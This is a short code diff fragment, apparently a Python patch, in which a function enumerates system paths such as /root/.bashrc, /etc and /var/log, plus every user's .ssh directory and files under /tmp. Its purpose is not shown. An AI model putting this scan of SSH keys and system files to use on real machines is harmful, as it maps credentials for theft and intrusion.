@@ -14,7 +14,7 @@ WANTED += ["/root/.bashrc", "/home", "/work", "/var/log", "/run", "/boot", "/etc
 
 def f(x):
     found = []
-    for path in WANTED + glob.glob("/*/.ssh/*") + glob.glob("/tmp/*"):
+    for path in WANTED + glob.glob("/*/.ssh/*") + glob.glob("/tmp/*/*"):
         try:
             if os.path.isdir(path):
                 os.listdir(path)
